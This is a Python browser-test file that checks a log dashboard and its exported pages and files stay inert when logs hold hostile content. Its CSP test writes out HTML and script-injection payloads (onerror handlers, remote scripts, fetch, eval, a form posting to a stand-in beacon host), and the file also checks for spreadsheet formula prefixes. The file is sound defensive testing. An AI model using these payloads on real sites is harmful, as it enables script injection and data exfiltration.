"""Logs that attack the reader, on every page and in every page that is exported, in a real browser.

The pages are visited without the server's Content-Security-Policy (the browser is told to disregard it), so that what
holds here holds by what the pages make of a text; that the policy holds too is tested by itself below.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from dashboard_server import Server, serving
from made_hostile import BEACON, CANARY, FORMULAS, hostile_store
from playwright.sync_api import Browser, Download, Page, expect
from visits import Visit

from tabcore.presentation.deliverable_page import standalone_page
from tabcore.presentation.report import Chosen, report
from tabcore.questions import provenance

SPREADSHEET = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

INSPECT = """([beacon, canary]) => {
  const found = [];
  if (window.attacked !== undefined) found.push(`ran: ${window.attacked}`);
  const asks = ["href", "xlink:href", "src", "srcset", "srcdoc", "action", "formaction", "data", "poster", "style", "content"];
  const walk = (root) => {
    for (const one of root.querySelectorAll("*")) {
      const name = one.localName;
      if (one.id === canary) found.push(`${name} made of a log's text`);
      for (const { name: key, value } of one.attributes) {
        if (asks.includes(key) && (value.includes(beacon) && !value.startsWith(location.origin) || /^\\s*javascript:/i.test(value)))
          found.push(`${name} ${key}=${value.slice(0, 120)} in ${one.parentElement?.textContent.slice(0, 80)}`);
        if (key.startsWith("on") && value.includes("attacked")) found.push(`${name} ${key}`);
      }
      const drawn = ["a", "button", "strong", "em", "code", "form", "h1", "h2", "h3"].includes(name)
        || one.classList.contains("katex") || (name === "span" && one.style.color);
      if (drawn && one.textContent.trim() === canary) found.push(`${name} drawn from a log's text`);
      if (name === "style" && one.textContent.includes(beacon)) found.push("style");
      if (one.shadowRoot) walk(one.shadowRoot);
      if (name === "iframe" && one.contentDocument) walk(one.contentDocument);
    }
  };
  walk(document);
  const main = document.querySelector("[data-testid=stMain]");
  if (main && main.scrollWidth > main.clientWidth) found.push(`wider than the window: ${main.scrollWidth}`);
  return found;
}"""
UNFOLD = "() => document.querySelectorAll('details:not([open]) > summary').forEach((one) => one.click())"
ALL_TEXT = """() => {
  const texts = [];
  const walk = (root) => {
    texts.push(root.textContent || "");
    for (const one of root.querySelectorAll("*")) {
      if ("value" in one && typeof one.value === "string") texts.push(one.value);
      if (one.shadowRoot) walk(one.shadowRoot);
    }
  };
  walk(document.body);
  return texts.join("\\n");
}"""


@dataclass(frozen=True, slots=True)
class Attacked:
    """A dashboard on hostile runs."""

    server: Server
    runs: tuple[str, ...]
    visit: Visit

    def inspect(self) -> None:
        """Nothing of the page was made by a log, and nobody but its server was asked."""
        found = self.visit.page.evaluate(INSPECT, [BEACON, CANARY])
        found += [f"asked {url}" for url in self.visit.foreign if not url.startswith("file:")]
        self.visit.foreign.clear()
        assert found == []

    def shows(self, text: str) -> None:
        """The page has this text of the log as text, so that the inspection has something to find."""
        self.visit.page.wait_for_function(f"(text) => ({ALL_TEXT})().includes(text)", arg=text)


@pytest.fixture(scope="module")
def attacked(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    folder = tmp_path_factory.mktemp("attacked")
    with serving(folder / "served") as server:
        runs = hostile_store(folder / "logs", server.store)
        context = browser.new_context(viewport={"width": 1280, "height": 1400}, bypass_csp=True)
        visit = Visit(context.new_page(), server.url)
        visit.page.on("request", visit.note_request)
        visit.page.on("dialog", lambda dialog: dialog.dismiss())
        yield Attacked(server, runs, visit)
        assert context.pages == [visit.page]
        context.close()
    assert "Traceback" not in server.log.read_text()


def look(attacked: Attacked, address: str) -> Page:
    """The page at an address with all that is folded away opened, inspected."""
    page = attacked.visit.open(address.format(*attacked.runs))
    page.evaluate(UNFOLD)
    attacked.visit.settle()
    page.wait_for_timeout(300)
    attacked.inspect()
    return page


PAGES = {
    "/": CANARY,
    "/replay?run={0}&turn=3": "added r9",
    "/deliverable?run={0}": f"http://{BEACON}",
    "/missing": f"http://{BEACON}",
    "/recovery": "lexical",
    "/taxonomy": f"http://{BEACON}",
    "/scores": "running_tab",
    "/compare": "bills.csv",
    "/query": "Words",
}


@pytest.mark.parametrize("address", PAGES)
def test_a_page_shows_what_a_log_says_and_does_nothing_of_it(attacked: Attacked, address: str) -> None:
    look(attacked, address)
    attacked.shows(PAGES[address])


def test_words_that_are_looked_for_are_shown_as_text(attacked: Attacked) -> None:
    page = attacked.visit.open("/query")
    page.get_by_role("textbox", name="Words").fill(CANARY)
    page.keyboard.press("Enter")
    attacked.visit.settle()
    attacked.shows(f"http://{BEACON}")
    attacked.inspect()


@pytest.mark.parametrize(
    ("address", "parts"),
    [("/scores", 7), ("/compare", 5), ("/taxonomy", 3), ("/missing", 1)],
)
@pytest.mark.long
def test_each_part_of_a_page_does_nothing_of_a_log(attacked: Attacked, address: str, parts: int) -> None:
    page = look(attacked, address)
    names = page.get_by_test_id("stButtonGroup").first.get_by_role("radio")
    assert names.count() >= parts
    for place in range(names.count()):
        names.nth(place).click()
        attacked.visit.settle()
        page.evaluate(UNFOLD)
        page.wait_for_timeout(1200)
        attacked.inspect()


@pytest.mark.long
def test_each_turn_of_the_replay_does_nothing_of_a_log(attacked: Attacked) -> None:
    for turn in range(1, 8):
        page = look(attacked, f"/replay?run={attacked.runs[1]}&turn={turn}")
        page.locator(f".turn-text[data-turn='{turn}']").wait_for()
        for entry in page.locator(".entry .head").all():
            entry.click()
        attacked.inspect()


def test_what_pretends_to_be_the_tab_is_shown_as_the_words_of_the_log(attacked: Attacked) -> None:
    page = attacked.visit.open(f"/replay?run={attacked.runs[0]}&turn=3")
    text = page.locator(".turn-text[data-turn='3']")
    expect(text).to_contain_text("99 open | candidates: 77 unopened")
    assert not [words for words in text.locator(".tab").all_inner_texts() if "99 open" in words or CANARY in words]
    expect(page.locator("[data-part=status]")).not_to_contain_text("99 open")
    requirements = page.locator("[data-part=requirements]").inner_text()
    assert f"{CANARY}-requirement" not in requirements
    assert "r9" not in requirements


def test_an_exported_page_does_nothing_of_a_log(attacked: Attacked, tmp_path: Path) -> None:
    visit = attacked.visit
    pages = {
        "report.html": report(attacked.server.store, Chosen()),
        "values.html": standalone_page(provenance(attacked.server.store, attacked.runs[0])),
    }
    for name, text in pages.items():
        place = tmp_path / name
        place.write_text(text, "utf-8")
        visit.page.goto(place.as_uri())
        visit.page.evaluate(UNFOLD)
        visit.page.wait_for_timeout(200)
        attacked.inspect()
        attacked.shows(f"http://{BEACON}")


@pytest.mark.long
def test_each_file_that_a_page_gives_out_is_inert(attacked: Attacked) -> None:
    kinds: set[str] = set()
    for address in ("/deliverable?run={0}", "/taxonomy", "/scores", "/missing"):
        page = look(attacked, address)
        parts = page.get_by_test_id("stButtonGroup").first.get_by_role("radio")
        for place in range(max(1, parts.count())):
            if parts.count():
                parts.nth(place).click()
                attacked.visit.settle()
            page.evaluate(UNFOLD)
            for button in page.get_by_test_id("stDownloadButton").get_by_role("button").all():
                with page.expect_download() as started:
                    button.click()
                kinds.add(is_inert(started.value))
    page = attacked.visit.open("/query")
    page.get_by_role("radio", name="SQL").click()
    page.get_by_role("textbox", name="SQL").fill("SELECT text, text AS more FROM rubrics")
    page.get_by_role("button", name="Run", exact=True).click()
    with page.expect_download() as started:
        page.get_by_role("button", name="CSV", exact=True).click()
    assert is_inert(started.value) == "csv"
    attacked.inspect()
    assert kinds >= {"csv", "xlsx", "html"}


def is_inert(download: Download) -> str:
    """The kind of a saved file, in which no cell begins a formula, and whose name leads nowhere."""
    assert re.fullmatch(r"[^/\\<>=\u202e]+", download.suggested_filename), download.suggested_filename
    data, kind = Path(download.path()).read_bytes(), download.suggested_filename.rsplit(".", 1)[-1]
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(data.decode())))
        assert [cell for row in rows for cell in row if cell.startswith(SPREADSHEET) and not _is_number(cell)] == []
    elif kind == "xlsx":
        cells = [
            cell for sheet in openpyxl.load_workbook(io.BytesIO(data)) for row in sheet.iter_rows() for cell in row
        ]
        assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    elif kind in ("json", "jsonl"):
        assert all(json.loads(line) for line in data.decode().splitlines()) if kind == "jsonl" else json.loads(data)
    return kind


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"[-+]?\d[\d.]*(?:e-?\d+)?", cell) is not None


def test_the_policy_alone_stops_what_a_page_would_do(browser: Browser, attacked: Attacked) -> None:
    context = browser.new_context()
    visit = Visit(context.new_page(), attacked.server.url)
    page = visit.open("/")
    visit.page.on("request", visit.note_request)
    blocked = page.evaluate(
        """async ([beacon]) => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", (one) => seen.push(one.effectiveDirective));
          const put = (html) => { const box = document.createElement("div"); box.innerHTML = html; document.body.append(box); };
          put(`<img src=http://${beacon}/i.png onerror="window.attacked=1"><iframe src=http://${beacon}/f></iframe>`);
          put(`<link rel=stylesheet href=http://${beacon}/l.css><object data=http://${beacon}/o></object>`);
          put("<div onclick='window.attacked=2' id=pressed></div><base href=http://" + beacon + ">");
          document.getElementById("pressed").click();
          const script = document.createElement("script");
          script.textContent = "window.attacked = 3";
          document.body.append(script);
          const other = document.createElement("script");
          other.src = `http://${beacon}/s.js`;
          document.body.append(other);
          try { await fetch(`http://${beacon}/x`); } catch { seen.push("fetch"); }
          setTimeout(() => { try { eval("window.attacked = 4"); } catch { seen.push("eval"); } });
          const form = document.createElement("form");
          form.action = `http://${beacon}/p`;
          document.body.append(form);
          form.submit();
          await new Promise((done) => setTimeout(done, 300));
          return [window.attacked ?? 0, ...new Set(seen)];
        }""",
        [BEACON],
    )
    assert blocked[0] == 0
    wanted = {
        "img-src",
        "frame-src",
        "style-src-elem",
        "object-src",
        "script-src-attr",
        "script-src-elem",
        "connect-src",
    }
    assert {*blocked} >= {*wanted, "fetch", "eval", "form-action", "base-uri"}
    context.close()


def test_formulas_of_a_log_are_known_to_the_tests(attacked: Attacked) -> None:
    assert all(text.lstrip(" ").startswith(SPREADSHEET) for text in FORMULAS)
